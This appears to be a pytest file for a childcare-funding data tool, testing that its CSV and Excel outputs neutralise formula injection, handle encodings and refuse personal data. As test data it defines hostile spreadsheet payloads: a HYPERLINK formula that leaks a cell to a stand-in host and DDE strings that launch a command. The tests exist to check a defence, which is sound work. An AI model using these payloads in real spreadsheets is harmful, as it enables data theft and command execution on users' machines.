"""Hostile input (issue #15): the bad-file corpus through the command line, no formula in
any output, validation that always finishes, encodings, plausibility and personal data."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from eyanalysis.cli import main
from eyanalysis.data import export
from eyanalysis.data.dataset import load
from eyanalysis.data.readers import decode
from eyanalysis.errors import PersonalDataError
from tests.conftest import ROOT
from tests.test_dataset import BAD, EXPECTED, TINY, tiny_with

EXAMPLE = ROOT / "eyanalysis/data/example/attendance.csv"
HYPERLINK = '=HYPERLINK("http://example.test/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cli(capsys, *args) -> tuple[int, str, str]:
    """Run the command line in this process (the same ``main`` the console script calls)."""
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


# -- the corpus, through `eyanalysis validate` and `eyanalysis predict` --------------------

# the corpus in reverse: test_dataset checks it forwards, often at the same time on the
# other worker; each source is then checked once and read back by the other test
@pytest.mark.parametrize("name", sorted(EXPECTED, reverse=True))
def test_corpus_file_gives_its_exit_status_and_messages(tmp_path, capsys, corpus, name):
    want = EXPECTED[name]
    path = BAD / name
    if name.startswith("predict__"):
        code, out, err = cli(capsys, "predict", path, "--on", "2025-09-01")
        assert code == want["exit"], err
        for text in want.get("stderr", []):
            assert text in err, err
        if want["exit"]:
            assert out == "" and "Traceback" not in err
        if want.get("same_as_example"):
            _, expected, _ = cli(capsys, "predict", EXAMPLE, "--on", "2025-09-01")
            assert out == expected
        return
    source = corpus(path)  # test_dataset checks the same source
    report = tmp_path / "report"
    code, out, err = cli(capsys, "validate", source, "--report", report)
    assert code == want["exit"], out + err
    assert "Traceback" not in err
    lines = out.splitlines()
    assert lines[-1].startswith("rows: "), out  # the count line is always the last
    if "rows" in want:
        assert lines[-1] == want["rows"]
    if "refused" in want:
        assert want["refused"] in err and "pseudonymous" in err
        return
    for _, _, text in want["problems"]:
        assert text in " ".join(out.split()), out
    for text in want.get("stdout", []):
        assert text in " ".join(out.split()), out
    problems = pd.read_csv(report / "problems.csv", dtype=str, keep_default_na=False)
    assert len(problems) >= len(want["problems"])
    counts = pd.read_csv(report / "counts.csv", keep_default_na=False)
    n, a, q = (int(x) for x in lines[-1].replace(",", "").split()[1::2])
    assert (n, a, q) == (counts.rows_in.sum(), counts.accepted.sum(), counts.quarantined.sum())
    for table, encoding in (want.get("encoding") or {}).items():
        assert counts.set_index("table").loc[table, "encoding"] == encoding
    assert_no_live_formula(report)


def assert_no_live_formula(folder: Path) -> None:
    """No CSV cell under ``folder`` begins with a formula character unless it is a number."""
    for path in folder.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                assert not export.is_formula_like(cell), (path.name, cell)


def test_the_corpus_runs_through_the_installed_command_too(tmp_path):
    """Two files through a real subprocess: the console entry point, exit codes, streams."""
    res = subprocess.run([sys.executable, "-m", "eyanalysis.cli", "predict",
                          BAD / "predict__formula_child_id.csv"], capture_output=True, text=True,
                         timeout=300)
    assert res.returncode == 2 and res.stdout == ""
    assert "predict__formula_child_id.csv:9: column child_id" in res.stderr
    folder = tiny_with(tmp_path, BAD / "settings__binary.csv")
    res = subprocess.run([sys.executable, "-m", "eyanalysis.cli", "validate", folder,
                          "--report", tmp_path / "r"], capture_output=True, text=True,
                         timeout=300)
    assert res.returncode == 1, res.stderr
    assert res.stdout.splitlines()[-1] == "rows: 21 in, 4 accepted, 17 quarantined"


# -- no formula leaves the workbench ----------------------------------------------------------

def test_neutralise_prefixes_formula_text_and_keeps_numbers_numbers():
    frame = pd.DataFrame({"text": [*HOSTILE, "S1", "-15", "+7", "£1,234.56", "-1e3"],
                          "n": range(-5, 6)})
    out = export.neutralise(frame)
    assert out.text.tolist()[:6] == ["'" + h for h in HOSTILE]
    assert out.text.tolist()[6:] == ["S1", "-15", "+7", "£1,234.56", "-1e3"]
    assert out.n.tolist() == list(range(-5, 6)) and out.n.dtype == frame.n.dtype
    text = export.safe_csv(frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + HYPERLINK and rows[1][1] == "-5"


def read_book(path: Path) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(path)
    return {s.title: [list(r) for r in s.iter_rows()] for s in book.worksheets}


def assert_book_safe(path: Path, hostile: str) -> None:
    """``hostile`` is in the workbook as a string cell; no cell anywhere is a formula;
    negative numbers are numbers."""
    cells = [c for rows in read_book(path).values() for r in rows for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hits = [c for c in cells if isinstance(c.value, str) and hostile in c.value]
    assert hits and all(c.data_type == "s" for c in hits)


def test_safe_excel_and_defuse_write_string_cells_never_formulas(tmp_path):
    frame = pd.DataFrame({"id": HOSTILE, "n": [-1, -2, 3, 4, 5, 6]})
    export.safe_excel({"t": frame}, tmp_path / "a.xlsx")
    assert_book_safe(tmp_path / "a.xlsx", HYPERLINK)
    cells = read_book(tmp_path / "a.xlsx")["t"]
    assert [c.value for c in cells[1]] == [HYPERLINK, -1] and cells[1][1].data_type == "n"
    # a workbook written by another library with a live formula is defused in place
    frame.to_excel(tmp_path / "b.xlsx", index=False)
    assert any(c.data_type == "f" for r in read_book(tmp_path / "b.xlsx")["Sheet1"] for c in r)
    assert export.defuse_xlsx(tmp_path / "b.xlsx") >= 1
    assert_book_safe(tmp_path / "b.xlsx", HYPERLINK)


def test_validate_report_never_writes_a_live_formula(tmp_path, capsys):
    folder = tiny_with(tmp_path, BAD / "settings__formula_name.csv")
    shutil.copy(BAD / "attendance__formula_child_id.csv", folder / "attendance.csv")
    code, out, _ = cli(capsys, "validate", folder, "--report", tmp_path / "r")
    assert code == 1
    problems = (tmp_path / "r" / "problems.csv").read_text()
    assert "'=HYPERLINK" in problems and "'+cmd|" in problems
    assert "'=HYPERLINK" in (tmp_path / "r" / "quarantine_settings.csv").read_text()
    assert "'+cmd|" in (tmp_path / "r" / "quarantine_attendance.csv").read_text()
    assert_no_live_formula(tmp_path / "r")
    q = pd.read_csv(tmp_path / "r" / "quarantine_settings.csv", dtype=str)
    assert q.name.iloc[0].startswith("'=HYPERLINK")


def hostile_claims():
    """Claims as ``read_attendance`` would return them if a formula-like id got through."""
    from tests.conftest import claims

    return claims("c1 S1 GR3 15 12 3-4 true\nc2 S2 GR4 10 12 3-4 false").assign(
        setting_id=[HYPERLINK, "S2"])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ""])
def test_predict_output_neutralises_even_if_an_id_got_through(tmp_path, capsys, monkeypatch,
                                                              suffix):
    from eyanalysis.data import claims_file

    monkeypatch.setattr(claims_file, "read_attendance", lambda *a, **k: hostile_claims())
    args = ["predict", EXAMPLE, "--on", "2025-09-01"]
    out = tmp_path / f"grid{suffix}"
    code, printed, err = cli(capsys, *args, *(["--out", out] if suffix else []))
    assert code == 0, err
    if suffix == ".xlsx":
        assert_book_safe(out, HYPERLINK)
        return
    text = out.read_text() if suffix else printed
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["setting_id"] for r in rows} == {"'" + HYPERLINK, "S2"}


def test_forecast_csv_and_excel_neutralise_a_hostile_scenario_name(tmp_path, capsys):
    scenario = tmp_path / "evil.yaml"
    scenario.write_text(yaml.safe_dump({"name": HYPERLINK, "overrides": {
        "inclusion.top_up.GR3": {"2027-04-01": 1.76}}}))
    base = ["forecast", "--scenario", scenario, "--terms", "1", "--paths", "0", "--quiet"]
    assert cli(capsys, *base, "--out", tmp_path / "f.csv")[0] == 0
    table = pd.read_csv(tmp_path / "f.csv", dtype=str)
    assert "'" + HYPERLINK in set(table.scenario)
    assert all(not export.is_formula_like(v) for v in table.to_numpy().ravel() if v == v)
    assert cli(capsys, *base, "--out", tmp_path / "f.xlsx")[0] == 0
    assert_book_safe(tmp_path / "f.xlsx", HYPERLINK)
    numbers = [c.value for r in read_book(tmp_path / "f.xlsx")["Table 1"] for c in r]
    assert any(isinstance(v, int | float) for v in numbers)  # the forecast table (gptables)


def test_published_tables_and_termly_workbook_hold_no_formula(tmp_path):
    """The release's CSVs and gptables workbook (report.Release.publish, moved into place
    by the termly run) with a hostile label."""
    from eyanalysis.analysis.summary import Counted
    from eyanalysis.jobs.termly import tables_workbook
    from eyanalysis.present import meta, publish, report
    from eyanalysis.present.meta import Column, TableSpec

    frame = pd.DataFrame({"group": [HYPERLINK, "b", "Total"], "n": [10, 20, 30],
                          "change": [-3, 7, 0]})
    safe = publish.table("hostile", frame, ["n"], total_row=True, on="2026-11-23")
    spec = TableSpec(name="hostile", title="Hostile", total_row=True,
                     columns={"group": Column("Group"), "n": Column("Count", "count"),
                              "change": Column("Change", "change")})
    release = report.Release(
        counted=Counted.of("2026-AUT", "2026-11-23"), key=[], trend=pd.DataFrame(),
        sections={"hostile": report.Section("hostile", "Hostile", [], safe, spec)},
        gap=None, limit=6, source="test", contact=meta.Contact("Team", "a@example.org"))
    release.publish(tmp_path / "tables")
    text = (tmp_path / "tables" / "hostile.csv").read_text(encoding="utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text and ",-3\n" in text
    tables_workbook(tmp_path / "tables", tmp_path / "tables.xlsx")
    assert_book_safe(tmp_path / "tables.xlsx", HYPERLINK)


def test_audit_sample_output_is_neutralised(tmp_path, capsys, monkeypatch):
    from eyanalysis.data import dataset

    real = dataset.load(TINY, tables=["settings"])
    real.tables["settings"] = real.settings.assign(name=[HYPERLINK, "b", "c", "d"])
    monkeypatch.setattr(dataset, "load", lambda *a, **k: real)
    code, out, err = cli(capsys, "audit-sample", "--year", "2026", "--fraction", "1",
                         "--out", tmp_path / "s.csv")
    assert code == 0, err
    sample = pd.read_csv(tmp_path / "s.csv", dtype=str)
    assert "'" + HYPERLINK in set(sample.name)


def test_source_writers_neutralise(tmp_path):
    from eyanalysis.data import sources

    tables = {"settings": pd.DataFrame({"setting_id": ["S1"], "name": [HYPERLINK],
                                        "hours": [-4.5]})}
    sources.write_csv_folder(tables, tmp_path / "csv")
    assert "'" + HYPERLINK.replace('"', '""') in (tmp_path / "csv/settings.csv").read_text()
    sources.write_excel(tables, tmp_path / "ey.xlsx")
    assert_book_safe(tmp_path / "ey.xlsx", HYPERLINK)
    row = read_book(tmp_path / "ey.xlsx")["settings"][1]
    assert row[2].value == -4.5 and row[2].data_type == "n"


# -- validation always finishes ----------------------------------------------------------------

def test_a_missing_file_is_a_problem_of_its_table_and_the_rest_is_checked(tmp_path, capsys):
    folder = tiny_with(tmp_path)
    (folder / "visits.csv").unlink()
    code, out, _ = cli(capsys, "validate", folder, "--report", tmp_path / "r")
    assert code == 1
    assert "missing: no file for the visits table" in " ".join(out.split())
    assert out.splitlines()[-1] == "rows: 22 in, 22 accepted, 0 quarantined"
    problems = pd.read_csv(tmp_path / "r" / "problems.csv", dtype=str, keep_default_na=False)
    assert problems.file.str.endswith("visits.csv").any() and problems.line.iloc[0] == ""


def test_rows_of_a_table_whose_parent_failed_give_one_problem_per_column(tmp_path):
    ds = load(tiny_with(tmp_path, BAD / "settings__binary.csv"))
    unchecked = ds.problems[ds.problems.message.str.startswith("not checked")]
    assert sorted(unchecked.file.map(lambda f: Path(f).stem)) == sorted(
        ["inspections", "attendance", "visits", "categorisations", "panel_applications"])
    assert unchecked.line.isna().all()
    assert len(ds.problems) == 6  # the binary file + one per referring table, not per row
    assert (ds.quarantined["attendance"].reasons.str.contains("not checked")).all()


def test_encodings_bom_then_utf8_then_cp1252_preferred():
    text = "setting_id,name\nS1,Acorn £ Tots\n"
    assert decode(b"\xef\xbb\xbf" + text.encode(), Path("x")) == (text, "utf-8 (BOM)")
    assert decode(text.encode("utf-16"), Path("x")) == (text, "utf-16-le (BOM)")
    assert decode(b"\xfe\xff" + text.encode("utf-16-be"), Path("x")) == (text,
                                                                           "utf-16-be (BOM)")
    assert decode(text.encode(), Path("x")) == (text, "utf-8")
    # charset-normalizer alone would say cp1250 (£ -> Ł); an English export is cp1252
    assert decode(text.encode("cp1252"), Path("x")) == (text, "cp1252")


def test_utf16_file_reads_with_the_right_row_count(tmp_path):
    ds = load(tiny_with(tmp_path, BAD / "settings__utf16le_bom.csv"))
    assert ds.rows_in["settings"] == 4 and ds.counts.quarantined.sum() == 0
    assert ds.settings.name.iloc[0] == "Acorn \u00a3 Tots"
    assert ds.counts.set_index("table").loc["settings", "encoding"] == "utf-16-le (BOM)"


# -- plausibility --------------------------------------------------------------------------------

def test_as_of_moves_the_future(tmp_path, capsys):
    folder = tiny_with(tmp_path)
    # the tiny data run to 2025-11 (visit V2 held 2025-10-20, decision 2025-10-15)
    ds = load(folder, as_of="2025-10-14")
    bad = set(zip(ds.problems.column, ds.problems.line, strict=True))
    assert bad == {("held_date", 3), ("decision_date", 2)}
    assert ds.problems.message.str.contains("after the data's as-of date 2025-10-14").all()
    assert load(folder, as_of=dt.date(2026, 1, 1)).problems.empty
    code, out, _ = cli(capsys, "validate", folder, "--as-of", "2025-10-14", "--report",
                       tmp_path / "r")
    assert code == 1 and "2025-10-14" in out


def test_personal_data_refusal_writes_no_values(tmp_path, capsys):
    folder = tiny_with(tmp_path, BAD / "children__full_dates_on_two_lines.csv")
    code, out, err = cli(capsys, "validate", folder, "--report", tmp_path / "r")
    assert code == 2 and out.splitlines()[-1] == "rows: 0 in, 0 accepted, 0 quarantined"
    report = (tmp_path / "r" / "problems.csv").read_text()
    assert "14/02/2022" not in report + out + err and "2023-01-09" not in report + out + err
    assert not list((tmp_path / "r").glob("quarantine_*"))
    with pytest.raises(PersonalDataError) as exc:
        load(folder)
    assert [p["line"] for p in exc.value.problems] == [3]  # first line; message names both
    assert "lines 3, 5" in str(exc.value)


def test_setting_names_are_not_personal_data_but_a_name_column_elsewhere_is(tmp_path):
    assert load(TINY).counts.quarantined.sum() == 0  # settings.name is the setting's name
    folder = tiny_with(tmp_path)
    visits = pd.read_csv(folder / "visits.csv", dtype=str).assign(name="Jo Bloggs")
    visits.to_csv(folder / "visits.csv", index=False)
    with pytest.raises(PersonalDataError, match="visits.csv: name is a personal-data column"):
        load(folder)


# -- EYPP hours (issue #15: np.bincount on an empty array is int64) -------------------------

def test_P1_eypp_hours_keep_their_fraction_when_no_supplement_row_is_paid(tmp_path, capsys):
    claims = tmp_path / "claims.csv"
    claims.write_text("child_id,setting_id,level,hours_per_week,weeks,funding_age,eypp\n"
                      "a,S1,NE,1,0.4,3-4,true\nb,S1,GR1,149.5,1,3-4,true\n"
                      "c,S2,NE,14.95,10,3-4,true\n")
    code, out, err = cli(capsys, "predict", claims, "--on", "2025-09-01")
    assert code == 0, err
    eypp = {r["setting_id"]: r for r in csv.DictReader(io.StringIO(out)) if r["level"] == "EYPP"}
    # 0.4 h + 15 h (149.5 a week capped at 15, F2) and 149.5 h, not 15.0 and 149.0
    assert eypp["S1"]["nef_hours"] == "15.4" and eypp["S1"]["amount"] == "15.40"
    assert eypp["S2"]["nef_hours"] == "149.5" and eypp["S2"]["amount"] == "149.50"


def test_validate_prints_the_count_line_even_when_the_source_cannot_be_opened(tmp_path, capsys):
    code, out, err = cli(capsys, "validate", tmp_path / "nowhere", "--report", tmp_path / "r")
    assert code == 2 and "no such file or folder" in err
    assert out.splitlines()[-1] == "rows: 0 in, 0 accepted, 0 quarantined"
